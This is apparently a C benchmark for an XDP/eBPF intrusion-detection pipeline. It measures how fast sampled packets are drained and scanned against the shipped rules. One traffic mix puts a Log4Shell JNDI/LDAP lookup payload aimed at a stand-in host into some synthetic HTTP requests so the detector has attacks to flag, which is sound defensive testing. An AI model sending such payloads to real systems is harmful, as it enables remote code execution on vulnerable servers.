// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/*
 * The payload pipeline end to end, ring buffer to alert, against a baseline measured in
 * the same run: draining the same samples from the same ring buffer and doing nothing
 * with them. The real XDP program makes the samples (BPF_PROG_TEST_RUN, every payload
 * packet sampled); the shipped rules scan them; alerts go to /dev/null.
 *
 * - Batch: the ring buffer is filled (untimed), then drained and scanned (timed), all on
 *   one core (CPU 0): the ring buffer's consumer and one worker (live), or the consumer
 *   scanning itself (replay). No sample is dropped: the queue holds a whole batch.
 * - Sustained: a producer on CPU 1 pushes packets for a few seconds while the consumer
 *   and one worker share CPU 0, with the default queue: the rate the pipeline keeps up
 *   with, and what it counts as dropped when it does not.
 *
 * Prints Markdown. Run as root from the repository root: .output/bench/bench_pipeline
 * [--quick]
 */
#include <errno.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <bpf/bpf.h>
#include <bpf/libbpf.h>

#include "config/config.h"
#include "counters.h"
#include "datapath_loader.h"
#include "replay_batch.h"
#include "output/eve_format.h"
#include "output/output.h"
#include "flow_export.h"
#include "payload/sample_pipeline.h"
#include "../support/packet_builder.h"
#include "bench_time.h"

#define FLOWS 256		/* distinct flows per batch */
#define REPEAT 32		/* samples per flow and batch */
#define BATCH (FLOWS * REPEAT)	/* 8192 samples: fits the 8 MiB ring at snaplen 512 */

static int quick;

static void pin_to_cpu(int cpu)
{
	cpu_set_t set;

	CPU_ZERO(&set);
	CPU_SET(cpu, &set);
	if (sched_setaffinity(0, sizeof(set), &set))
		fprintf(stderr, "cannot pin to CPU %d: %s\n", cpu, strerror(errno));
}

/* What the samples carry. */
enum payload_mix {
	MIX_HTTP,		/* benign HTTP requests */
	MIX_HTTP_ATTACKS,	/* the same, one flow in 16 a Log4Shell request */
	MIX_BINARY,		/* 512 bytes of non-HTTP data (TLS-like) */
	MIX_COUNT,
};

static const char *const mix_names[] = {
	"benign HTTP requests (~330 B)",
	"HTTP, 1 flow in 16 a Log4Shell request",
	"512 B binary (not HTTP)",
};

static void build_frame(struct pkt *p, enum payload_mix mix, int flow)
{
	char text[512], src[32];
	size_t len;

	if (mix == MIX_BINARY) {
		len = 512;
	} else {
		len = (size_t)snprintf(text, sizeof(text),
				       "GET /portal/%s/page%d.html?session=%08x&lang=en HTTP/1.1\r\n"
				       "Host: gateway.example.net\r\n"
				       "User-Agent: %s\r\n"
				       "Accept: text/html,application/xhtml+xml,*/*;q=0.8\r\n"
				       "Accept-Language: en-US,en;q=0.5\r\n"
				       "Cookie: sid=4f2a9c1e77b04d2e\r\n\r\n",
				       flow & 1 ? "admin" : "user", flow, flow * 2654435761u,
				       mix == MIX_HTTP_ATTACKS && flow % 16 == 0
					       ? "${jndi:ldap://198.51.100.7:1389/a}"
					       : "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Firefox/128.0");
	}
	snprintf(src, sizeof(src), "198.18.%d.%d", 10 + flow / 250, 1 + flow % 250);
	pkt_init(p);
	pkt_eth(p);
	pkt_ipv4(p, &(struct pkt_ipv4){ .src = src, .dst = "198.18.0.1" });
	pkt_tcp(p, (uint16_t)(30000 + flow), 443, PKT_TCP_PSH | PKT_TCP_ACK, 0);
	pkt_payload(p, len, (uint8_t)flow);
	if (mix != MIX_BINARY)
		memcpy(pkt_hdr(p, pkt_find(p, PKT_PAYLOAD, 0)), text, len);
	pkt_finish(p);
}

struct bench {
	struct datapath_instance dp;
	struct ew_config *cfg;
	struct output out;
	struct flow_exporter exporter;
	struct sample_pipeline *sp;	/* NULL: the baseline, samples only counted */
	struct ring_buffer *ring;
	struct pkt frames[MIX_COUNT][FLOWS];
	uint64_t drained;
	volatile int producing;
};

static int on_sample(void *ctx, void *data, size_t size)
{
	struct bench *b = ctx;

	b->drained++;
	return b->sp ? sample_pipeline_on_sample(b->sp, data, size) : 0;
}

/* Every payload packet sampled: one-in 1. */
static void set_sampling(struct bench *b)
{
	__u32 set = b->dp.skel->bss->policy_gen & 1;
	struct policy_config pc = { .generation = b->dp.skel->bss->policy_gen, .sample_first = 4,
				    .sample_one_in = 1 };

	if (bpf_map_update_elem(bpf_map__fd(b->dp.skel->maps.policy_configs), &set, &pc, BPF_ANY))
		exit(1);
}

static void bench_open(struct bench *b)
{
	static const char yaml[] = "rules:\n  files: [rules/*.rules]\n"
				   "  classification: rules/classification.config\n";
	struct datapath_options dopts = { .replay = 1, .snaplen = 512 };	/* BATCH fits */
	struct config_error cerr;
	int mix, flow;

	memset(b, 0, sizeof(*b));
	if (datapath_load(&b->dp, &dopts) ||
	    config_load_buffer("bench.yaml", yaml, sizeof(yaml) - 1, &b->cfg, &cerr) ||
	    output_open(&b->out, "/dev/null", "bench")) {
		fprintf(stderr, "bench_pipeline: setup failed (root? run from the repository "
				"root)\n");
		exit(1);
	}
	set_sampling(b);
	flow_exporter_init(&b->exporter, &b->out, 1, 0);
	b->ring = ring_buffer__new(bpf_map__fd(b->dp.skel->maps.samples), on_sample, b, NULL);
	if (!b->ring)
		exit(1);
	for (mix = 0; mix < MIX_COUNT; mix++)
		for (flow = 0; flow < FLOWS; flow++)
			build_frame(&b->frames[mix][flow], mix, flow);
}

static void pipeline_start(struct bench *b, int synchronous, size_t queue_slots)
{
	struct sample_pipeline_params p = { .cfg = b->cfg, .dp = &b->dp,
					    .exporter = &b->exporter, .synchronous = synchronous,
					    .workers = 1, .queue_slots = queue_slots };

	if (sample_pipeline_new(&b->sp, &p)) {
		fprintf(stderr, "bench_pipeline: the rules did not load\n");
		exit(1);
	}
}

static void pipeline_stop(struct bench *b)
{
	sample_pipeline_free(b->sp);
	b->sp = NULL;
}

/*
 * Samples into the ring buffer: every flow's packet, rounds times. One run per call: with
 * repeat > 1 the kernel switches its XDP dispatcher around the runs (two RCU grace
 * periods, ~17 ms here), with repeat 1 a call costs about a microsecond.
 */
static void produce(struct bench *b, enum payload_mix mix, int rounds)
{
	static struct replay_batch batch;	/* the replay datapath's program, a frame a run */
	uint64_t now_ns = b->dp.skel->bss->clock_now_ns;
	int flow, round;

	if (replay_batch_init(&batch, b->dp.skel, 1))
		exit(1);
	for (round = 0; round < rounds; round++) {
		for (flow = 0; flow < FLOWS; flow++) {
			const struct pkt *p = &b->frames[mix][flow];

			now_ns += 1000;
			if (replay_batch_run_one(&batch, p->data, p->len, p->len, now_ns, NULL))
				exit(1);
		}
	}
}

/* Seconds to drain (and, with a pipeline, scan) batches of BATCH samples. */
static double drain_batches(struct bench *b, enum payload_mix mix, int batches)
{
	double total = 0, t0;
	int i;

	for (i = 0; i < batches; i++) {
		produce(b, mix, REPEAT);
		t0 = now_s();
		ring_buffer__consume(b->ring);
		sample_pipeline_drain(b->sp);
		total += now_s() - t0;
	}
	return total;
}

static uint64_t kernel_counter(struct bench *b, enum ew_counter id)
{
	struct ew_counters c;

	counters_read(bpf_map__fd(b->dp.skel->maps.counters), &c);
	return counters_total(&c, id);
}

static void batch_table(struct bench *b)
{
	int batches = quick ? 4 : 20, mix;
	double samples = (double)batches * BATCH;

	printf("### Payload pipeline: ring buffer to alert, one core\n\n");
	printf("Batches of %d samples (snaplen 512, %d flows), the shipped rules; the ring "
	       "buffer's consumer and the scanner share CPU 0. Baseline: the same samples "
	       "drained and dropped.\n\n", BATCH, FLOWS);
	printf("| samples | drain only (baseline) | live: queue + 1 worker | replay: scan "
	       "in the consumer | live cost / baseline |\n|---|---|---|---|---|\n");
	for (mix = 0; mix < MIX_COUNT; mix++) {
		double base, live, sync;

		base = drain_batches(b, mix, batches);
		pipeline_start(b, 0, BATCH);
		live = drain_batches(b, mix, batches);
		pipeline_stop(b);
		pipeline_start(b, 1, 0);
		sync = drain_batches(b, mix, batches);
		pipeline_stop(b);
		printf("| %s | %.2f M/s (%.0f ns) | %.0f k/s (%.0f ns) | %.0f k/s (%.0f ns) | "
		       "%.0fx |\n", mix_names[mix], samples / base / 1e6, base / samples * 1e9,
		       samples / live / 1e3, live / samples * 1e9, samples / sync / 1e3,
		       sync / samples * 1e9, live / base);
		fflush(stdout);
	}
	printf("\n");
}

static void *producer_main(void *arg)
{
	struct bench *b = arg;
	int mix = MIX_HTTP_ATTACKS;

	pin_to_cpu(1);
	while (b->producing)
		produce(b, mix, 1);
	return NULL;
}

/* A producer on CPU 1 as fast as it goes; consumer and one worker on CPU 0. */
static void sustained_table(struct bench *b)
{
	double seconds = quick ? 1.0 : 3.0, t0, elapsed;
	uint64_t sent0, lost0, sent, lost;
	struct stats_samples s;
	struct stats_rules rules;
	struct stats_streams streams;
	pthread_t producer;
	uint64_t read, scanned, dropped;

	pipeline_start(b, 0, 0);
	sent0 = kernel_counter(b, EW_CNT_SAMPLE_SENT);
	lost0 = kernel_counter(b, EW_CNT_SAMPLE_LOST);
	b->producing = 1;
	t0 = now_s();
	if (pthread_create(&producer, NULL, producer_main, b))
		exit(1);
	/*
	 * Read as the daemon does while samples come: the producer is replay's program,
	 * which never wakes a reader (replay reads after each frame), where a live
	 * datapath wakes the daemon at most once a millisecond (sample_wake_flags) and the
	 * daemon reads the rings on every pass of its loop (run.c, SAMPLE_POLL_MS). So a
	 * read every millisecond; waiting for a wake-up here read every 10 ms and lost
	 * nearly every sample to a full ring.
	 */
	while (now_s() - t0 < seconds) {
		ring_buffer__poll(b->ring, 1);
		ring_buffer__consume(b->ring);
	}
	b->producing = 0;
	pthread_join(producer, NULL);
	ring_buffer__consume(b->ring);
	sample_pipeline_drain(b->sp);
	elapsed = now_s() - t0;
	sent = kernel_counter(b, EW_CNT_SAMPLE_SENT) - sent0;
	lost = kernel_counter(b, EW_CNT_SAMPLE_LOST) - lost0;
	sample_pipeline_stats(b->sp, &s, &rules, &streams);
	read = s.read;
	scanned = s.scanned;
	dropped = s.dropped_queue_full;
	printf("### Payload pipeline under sustained load\n\n");
	printf("A producer on CPU 1 runs the XDP program as fast as it can (every payload packet "
	       "sampled, HTTP with 1 flow in 16 an attack) for %.0f s; the consumer and one "
	       "worker share CPU 0; default queue (%llu samples).\n\n", seconds,
	       (unsigned long long)s.queue_slots);
	printf("| samples made | ring buffer lost | read | scanned | dropped (queue full) | "
	       "scanned/s |\n|---|---|---|---|---|---|\n");
	printf("| %llu | %llu | %llu | %llu | %llu | %.0f k/s |\n\n",
	       (unsigned long long)(sent + lost), (unsigned long long)lost,
	       (unsigned long long)read, (unsigned long long)scanned, (unsigned long long)dropped,
	       scanned / elapsed / 1e3);
	pipeline_stop(b);
}

int main(int argc, char **argv)
{
	static struct bench b;	/* the frames are large */

	quick = argc > 1 && !strcmp(argv[1], "--quick");
	libbpf_set_print(NULL);
	bench_open(&b);
	pin_to_cpu(0);	/* the consumer, and the worker threads it starts */
	batch_table(&b);
	sustained_table(&b);
	ring_buffer__free(b.ring);
	output_close(&b.out);
	flow_exporter_destroy(&b.exporter);
	config_free(b.cfg);
	datapath_destroy(&b.dp);
	return 0;
}
